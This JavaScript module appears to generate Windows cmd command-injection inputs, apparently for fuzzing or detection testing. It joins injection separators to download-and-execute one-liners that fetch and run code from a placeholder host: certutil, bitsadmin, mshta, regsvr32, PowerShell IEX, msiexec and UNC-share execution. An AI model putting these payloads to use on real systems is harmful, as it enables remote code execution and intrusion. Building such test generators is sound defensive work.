import { commandGenerator } from '../command-generator.js';
import { ARGUMENT, DOUBLE } from '../place.js';

/** Windows' own programs that fetch and run. */
export const windowsDownload = commandGenerator({
  name: 'windows-download',
  shells: ['cmd'],
  places: [ARGUMENT, DOUBLE],
  rules: {
    start: ['{leave}{join}{run}{end}'],
    join: ['&', ' & ', '&&', '|', '||', ' && '],
    run: [
      'certutil -urlcache -split -f http://{host}/{letters}.exe {letters:e}.exe & {letters:e}.exe',
      'certutil.exe -decode a b',
      'bitsadmin /transfer {letters} http://{host}/x.exe C:\\temp\\x.exe',
      'mshta http://{host}/{letters}.hta',
      'mshta vbscript:Close(Execute("GetObject(""script:http://{host}/x"")"))',
      'regsvr32 /s /n /u /i:http://{host}/x.sct scrobj.dll',
      'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication";alert(1)',
      'powershell -c "iwr http://{host}/x -o x.exe; ./x.exe"',
      'powershell -nop -w hidden -enc SQBFAFgA',
      "powershell.exe IEX(New-Object Net.WebClient).DownloadString('http://{host}/')",
      'msiexec /q /i http://{host}/{letters}.msi',
      'curl http://{host}/x.bat -o x.bat & x.bat',
      'wscript //e:jscript {letters}.txt',
      'cscript {letters}.vbs',
      'ftp -s:{letters}.txt',
      'wmic process call create "{letters}.exe"',
      'copy \\\\{host}\\share\\x.exe . & x.exe',
      '\\\\{host}\\share\\{letters}.exe',
      'installutil /u {letters}.dll',
      'pcalua -a {letters}.exe',
      'forfiles /c "cmd /c calc"',
    ],
  },
});
